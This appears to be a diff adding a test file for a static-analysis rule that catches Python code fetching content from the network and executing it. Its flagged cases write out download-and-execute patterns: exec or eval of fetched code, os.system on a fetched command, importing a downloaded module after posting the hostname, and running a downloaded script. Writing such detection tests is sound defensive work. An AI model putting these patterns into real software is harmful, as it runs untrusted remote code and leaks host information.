@@ -1,0 +1,56 @@
+import importlib
+import os
+import pathlib
+import subprocess
+import sys
+import urllib.request
+
+import requests
+import requests as rq
+from huggingface_hub import hf_hub_download
+
+
+def load_plugin(url):
+    code = requests.get(url, timeout=10).text
+    # ruleid: remote-fetch-then-exec
+    exec(code)
+
+
+def patch_from_cdn():
+    resp = urllib.request.urlopen("http://10.0.0.5/p")
+    # ruleid: remote-fetch-then-exec
+    eval(compile(resp.read(), "<p>", "exec"))
+
+
+def evasive(url, tmp):
+    body = rq.post(url, json={"host": os.uname()[1]}).content
+    with open(os.path.join(tmp, "hooks_ext.py"), "wb") as f:
+        # ruleid: remote-fetch-then-exec
+        f.write(body)
+    sys.path.insert(0, tmp)
+    importlib.import_module("hooks_ext")
+    s = requests.Session()
+    cmd = s.get(url + "/cmd").text
+    # ruleid: remote-fetch-then-exec
+    os.system(cmd)
+    script = hf_hub_download("someuser/tools", "setup_env.py")
+    # ruleid: remote-fetch-then-exec
+    subprocess.run([sys.executable, script])
+
+
+def download_dataset(url, root):
+    # ok: remote-fetch-then-exec
+    r = requests.get(url, stream=True, timeout=60)
+    with open(os.path.join(root, "train.tar.gz"), "wb") as f:
+        # ok: remote-fetch-then-exec
+        f.write(r.content)
+    path, _ = urllib.request.urlretrieve(url + "/labels.json", os.path.join(root, "labels.json"))
+    # ok: remote-fetch-then-exec
+    os.system(f"tar xzf {path} -C {root}")
+    # ok: remote-fetch-then-exec
+    pathlib.Path(root, "README.md").write_text(requests.get(url + "/README").text)
+    # ok: remote-fetch-then-exec
+    meta = requests.get(url + "/meta.json").json()
+    # ok: remote-fetch-then-exec
+    model.eval()
+    return meta
